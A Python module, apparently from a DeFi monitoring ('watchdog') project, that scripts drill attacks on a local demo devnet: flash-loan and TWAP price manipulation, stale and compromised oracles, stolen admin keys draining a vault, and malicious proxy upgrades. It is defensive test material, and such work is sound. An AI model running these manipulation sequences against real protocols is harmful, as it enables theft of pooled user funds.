"""Attacks on the demo world, through the drill attacker contracts in contracts/src/drill/.

Each attack is a `prepare` (the attacker's deployments and funding, the protocol's configuration) and its steps.
The state keys that results read: `contract` (the attacker's contract), and the key transactions the steps note.
"""

from __future__ import annotations

from typing import Any

from watchdog.devnet import artifacts
from watchdog.devnet.txs import deploy
from watchdog.devnet.world import E18, World
from watchdog.scenarios.base import STEP_GAS, Player, Scenario, State, Step
from watchdog.scenarios.demo.market import (MAX_ALLOWANCE, at, buy_usd, compromised_governance, push_feed, rally_usd,
                                            spot_price, swap, update_twap)

# --- the flash-loan spot attacker, also sent on its own by tests that hold it in the mempool ---

FULL_BORROW, FULL_MARGIN = 3_000 * E18, 100_000 * E18  # one transaction takes most of the pool


def deploy_flash_loan_attacker(world: World) -> str:
    """The attacker deploys the flash-loan spot-manipulation contract (its own tx, as real attackers do)."""
    a = world.addresses
    return deploy(world.w3, world.accounts.attacker, artifacts.project("FlashLoanSpotAttacker"),
                  a["FlashLender"], a["UniswapV2Router02"], a["WETH"], a["dUSD"], a["PerpMarket"]).address


def flash_loan_attack(world: World, contract: str, borrow_weth: int, margin: int) -> Any:
    """In one call: flash-borrow WETH, crash the AMM spot price, open a 10x long, restore the price, close at a
    profit paid by the liquidity pool, repay."""
    return at(world, contract, "FlashLoanSpotAttacker").functions.attack(borrow_weth, margin)


def send_flash_loan_spot_attack(world: World, contract: str, *, borrow_weth: int = FULL_BORROW,
                                margin: int = FULL_MARGIN, wait: bool = True, **tx: Any) -> str:
    """Send the attack transaction outside any scenario, optionally without waiting (to hold it pending). Its hash."""
    call = flash_loan_attack(world, contract, borrow_weth, margin)
    tx_hash = call.transact({"from": world.accounts.attacker.address, "gas": STEP_GAS, **tx})
    if wait:
        world.w3.eth.wait_for_transaction_receipt(tx_hash, timeout=60)
    return tx_hash.to_0x_hex()


def _prepare_flash(world: World, state: State) -> None:
    state["contract"] = deploy_flash_loan_attacker(world)


def _flash_rounds(play: Player, state: State) -> None:
    borrow, margin = state["borrow_weth"], state["margin"]
    for n in range(1, state["rounds"] + 1):
        play.send(f"flash-loan round {n}: borrow {borrow // E18:,} WETH, crash the spot price, 10x long, restore, close",
                  flash_loan_attack(play.world, state["contract"], borrow, margin), "attacker", payoff=True)
        play.next_block()  # the attacker checks the take and goes again in a later block


def _mempool_attack(play: Player, state: State) -> None:
    play.next_block()  # sent right after a block: it waits in the public mempool for the next one
    play.send(f"flash-loan attack sent to the public mempool (borrow {state['borrow_weth'] // E18:,} WETH, drain the pool)",
              flash_loan_attack(play.world, state["contract"], state["borrow_weth"], state["margin"]), "attacker",
              payoff=True)


# --- positions at a price the attacker bent ---

def _margin_account(world: World, weth: int = 20 * E18) -> int:
    """The attacker's own dUSD for margin, bought honestly, with the vault approved."""
    margin = buy_usd(world, "attacker", weth) // 2
    world.send(world.contract("dUSD").functions.approve(world.addresses["CollateralVault"], MAX_ALLOWANCE), "attacker")
    return margin


def _open_long(play: Player, margin: int, size: int) -> Step:
    """Deposit margin and open a long of `size` at the price the market reads now; the opening step."""
    world = play.world
    vault, market = world.contract("CollateralVault"), world.contract("PerpMarket")
    play.send("deposit margin", vault.functions.deposit(margin), "attacker")
    return play.send("open a 10x long", market.functions.openPosition(size, margin), "attacker")


def _close_withdraw(play: Player) -> None:
    world = play.world
    vault, market = world.contract("CollateralVault"), world.contract("PerpMarket")
    play.send("close the long", market.functions.closePosition(), "attacker", payoff=True)
    free = vault.functions.balanceOf(world.accounts.attacker.address).call()
    if free:  # nothing to take when the close was stopped
        play.send("withdraw the profit", vault.functions.withdraw(free), "attacker", payoff=True)


def _trade_on_fake_price(play: Player, fake: Any, oracle: str, price: int, margin: int) -> None:
    """With a price the attacker controls: open a 10x long at a tenth of `price`, close at ten times it."""
    play.send(f"{oracle} reports a tenth of the price", fake.functions.setFakePrice(price // 10), "attacker")
    _open_long(play, margin, margin * 10 * E18 // (price // 10) * 99 // 100)
    play.send(f"{oracle} reports ten times the price", fake.functions.setFakePrice(price * 10), "attacker")
    _close_withdraw(play)


# --- TWAP pushed over several blocks ---

def _prepare_twap(world: World, state: State) -> None:
    world.set_oracle_source("twap")
    weth = world.contract("WETH")
    world.send(weth.functions.deposit(), "attacker", value=state["dump_weth"])
    for token, spender in (("WETH", "UniswapV2Router02"), ("dUSD", "UniswapV2Router02"), ("dUSD", "CollateralVault")):
        world.send(world.contract(token).functions.approve(world.addresses[spender], MAX_ALLOWANCE), "attacker")
    state["period"] = world.contract("TwapOracle").functions.period().call()


def _twap_attack(play: Player, state: State) -> None:
    world, period = play.world, state["period"]
    usd = world.contract("dUSD").functions.balanceOf(world.accounts.attacker.address)
    before = usd.call()
    swap(play, "attacker", "WETH", state["dump_weth"], attack=True,
         name=f"dump {state['dump_weth'] // E18:,} WETH on the pair and hold the price down")
    proceeds = usd.call() - before
    update_twap(play, name="keeper closes the TWAP window")
    for n in range(3):
        play.pass_time(f"a third of the TWAP window passes ({n + 1}/3)", period // 3 + 1)
    update_twap(play, name="keeper closes the TWAP window")
    low = world.contract("OracleAdapter").functions.price().call()
    margin = state["margin"]
    state["open_tx"] = _open_long(play, margin, margin * 10 * E18 // low * 99 // 100).tx_hash
    swap(play, "attacker", "dUSD", max(proceeds - margin, 1), attack=True,
         name="buy the WETH back: the spot price recovers")
    for n in range(3):
        play.pass_time(f"a third of the TWAP window passes ({n + 1}/3)", period // 3 + 1)
    update_twap(play, name="keeper closes the TWAP window")
    _close_withdraw(play)


# --- stale oracle ---

def _prepare_stale(world: World, state: State) -> None:
    world.set_oracle_source("feed")
    contract = deploy(world.w3, world.accounts.attacker, artifacts.project("StaleOracleAttacker"),
                      world.addresses["dUSD"], world.addresses["PerpMarket"]).address
    state["contract"], state["margin"] = contract, buy_usd(world, "attacker", 20 * E18) // 2
    usd = world.contract("dUSD")
    world.send(usd.functions.approve(contract, state["margin"]), "attacker")
    # the market's buyer, funded ahead
    state["rally_usd"] = rally_usd(world, state["move_pct"])
    world.send(usd.functions.mint(world.accounts.trader2.address, state["rally_usd"]), "deployer")
    world.send(usd.functions.approve(world.addresses["UniswapV2Router02"], MAX_ALLOWANCE), "trader2")


def _stale_attack(play: Player, state: State) -> None:
    world = play.world
    contract = at(world, state["contract"], "StaleOracleAttacker")
    stale = world.contract("OracleAdapter").functions.price().call()  # read before the feed is too old to read
    swap(play, "trader2", "dUSD", state["rally_usd"], name=f"the market rallies about {state['move_pct']} %",
         actor="market")
    play.pass_time(f"the keeper stops: {state['stale_for'] // 3600} hours without a feed update", state["stale_for"])
    size = state["margin"] * 10 * E18 // stale * 99 // 100
    play.send("open a 10x long at the stale feed price", contract.functions.open(size, state["margin"]), "attacker")
    push_feed(play, name="the keeper catches up")
    play.send("close at the fresh price and take the profit", contract.functions.close(), "attacker", payoff=True)


# --- two oracle sources disagree ---

def _prepare_divergence(world: World, state: State) -> None:
    world.set_oracle_source("feed")
    state["margin"] = _margin_account(world)


def _divergence_attack(play: Player, state: State) -> None:
    world = play.world
    fair = spot_price(world)
    push_feed(play, fair * (100 - state["drop_pct"]) // 100, actor="compromised keeper", attack=True,
              name=f"a compromised keeper pushes a price {state['drop_pct']} % below every other source")
    low = world.contract("OracleAdapter").functions.price().call()
    _open_long(play, state["margin"], state["margin"] * 10 * E18 // low * 99 // 100)
    push_feed(play, fair, name="the keeper pushes the real price back", actor="compromised keeper", attack=True)
    _close_withdraw(play)


# --- governance keys ---

def _prepare_admin(world: World, state: State) -> None:
    state["contract"] = deploy(world.w3, world.accounts.attacker, artifacts.project("AdminKeyDrainer")).address


def _admin_attack(play: Player, state: State) -> None:
    state["takeover_tx"] = compromised_governance(
        play, "two stolen owner keys make the Safe hand the vault to the attacker",
        "CollateralVault", "transferOwnership", state["contract"]).tx_hash
    drainer = at(play.world, state["contract"], "AdminKeyDrainer")
    play.send("drain the vault's liquidity pool", drainer.functions.drain(play.world.addresses["CollateralVault"]),
              "attacker", payoff=True)


def _prepare_upgrade(world: World, state: State) -> None:
    state["price"] = world.contract("OracleAdapter").functions.price().call()
    attacker = world.accounts.attacker
    state["contract"] = deploy(world.w3, attacker, artifacts.project("MaliciousAdapterImplementation"),
                               attacker.address).address
    state["margin"] = _margin_account(world)


def _upgrade_attack(play: Player, state: State) -> None:
    state["upgrade_tx"] = compromised_governance(
        play, "compromised governance upgrades the oracle adapter's proxy to the attacker's implementation",
        "OracleAdapter", "upgradeToAndCall", state["contract"], b"").tx_hash
    fake = at(play.world, play.world.addresses["OracleAdapter"], "MaliciousAdapterImplementation")
    _trade_on_fake_price(play, fake, "the upgraded oracle", state["price"], state["margin"])


def _prepare_oracle_swap(world: World, state: State) -> None:
    state["price"] = world.contract("OracleAdapter").functions.price().call()
    state["contract"] = deploy(world.w3, world.accounts.attacker, artifacts.project("MaliciousPriceOracle"),
                               state["price"]).address
    state["margin"] = _margin_account(world)


def _oracle_swap_attack(play: Player, state: State) -> None:
    state["oracle_swap_tx"] = compromised_governance(
        play, "compromised governance points the market at the attacker's price source",
        "PerpMarket", "setOracle", state["contract"]).tx_hash
    fake = at(play.world, state["contract"], "MaliciousPriceOracle")
    _trade_on_fake_price(play, fake, "the attacker's oracle", state["price"], state["margin"])


FLASH_LOAN_SPOT = Scenario(
    "flash-loan-spot", "Flash-loan spot-price manipulation",
    "In one transaction: flash-borrow WETH, crash the AMM spot price the market reads, open a 10x long, restore "
    "the price, close at a profit paid by the pool. Repeated once per block. Sent through a private relay: the "
    "watchdog first sees it in a block (fast path, 0 confirmations).",
    prepare=_prepare_flash, steps=_flash_rounds, mempool=False,
    params={"rounds": 4, "borrow_weth": 1_000 * E18, "margin": 5_000 * E18})
FLASH_LOAN_DRAIN = Scenario(
    "flash-loan-drain", "Flash-loan spot-price manipulation, all at once",
    "The flagship exploit in a single transaction (3,000 WETH borrowed, 100k margin): profitable while the oracle "
    "adapter reads spot and the protocol is not paused, it takes most of the pool; it reverts once paused.",
    prepare=_prepare_flash, steps=_flash_rounds, drill=False,
    params={"rounds": 1, "borrow_weth": FULL_BORROW, "margin": FULL_MARGIN})
TWAP_MULTIBLOCK = Scenario(
    "twap-multiblock", "TWAP manipulation over several blocks",
    "Against the hardened TWAP configuration: dump WETH and hold the spot price down for a whole TWAP window, "
    "open a long at the depressed TWAP, buy back, wait a window, close.",
    prepare=_prepare_twap, steps=_twap_attack, params={"dump_weth": 1_500 * E18, "margin": 100_000 * E18})
STALE_ORACLE = Scenario(
    "stale-oracle", "Stale oracle while the market moves",
    "The market prices through the push feed (no staleness bound); the keeper stops, the market rallies 20 %; "
    "the attacker opens a long at the stale price, the feed catches up, the attacker closes.",
    prepare=_prepare_stale, steps=_stale_attack, params={"move_pct": 20, "stale_for": 2 * 3600})
ORACLE_DIVERGENCE = Scenario(
    "oracle-divergence", "Two oracle sources disagree",
    "A compromised keeper pushes a feed price 40 % below the AMM and every other source; the attacker opens a "
    "long at the false price, the real price is pushed back, the attacker closes.",
    prepare=_prepare_divergence, steps=_divergence_attack, params={"drop_pct": 40})
ADMIN_KEY = Scenario(
    "admin-key", "Admin keys compromised, then drained",
    "Two of the Safe's three owner keys are stolen: the Safe hands the vault to the attacker's contract, which "
    "drains the liquidity pool in the next block.", prepare=_prepare_admin, steps=_admin_attack)
MALICIOUS_UPGRADE = Scenario(
    "malicious-upgrade", "Malicious oracle upgrade",
    "Compromised governance upgrades the oracle adapter's ERC-1967 proxy to the attacker's implementation; the "
    "attacker opens a long at a fake low price and closes at a fake high one.",
    prepare=_prepare_upgrade, steps=_upgrade_attack)
ORACLE_SWAP = Scenario(
    "oracle-swap", "Malicious oracle swap",
    "Compromised governance points the market at the attacker's price source (`setOracle`); the attacker opens a "
    "long at a fake low price and closes at a fake high one.",
    prepare=_prepare_oracle_swap, steps=_oracle_swap_attack, drill=False)
SLOW_DRAIN = Scenario(
    "slow-drain", "Slow drain over several blocks",
    "The flash-loan spot attack in small slices (400 WETH, 20k margin), one block apart.",
    prepare=_prepare_flash, steps=_flash_rounds,
    params={"rounds": 4, "borrow_weth": 400 * E18, "margin": 20_000 * E18})
MEMPOOL_PREEMPT = Scenario(
    "mempool-preempt", "Attack waiting in the public mempool",
    "The full flash-loan drain is sent to the public mempool right after a block; the watchdog simulates it "
    "while pending and must land the pause first in the same block (higher priority fee).",
    prepare=_prepare_flash, steps=_mempool_attack, params={"borrow_weth": FULL_BORROW, "margin": 20_000 * E18})
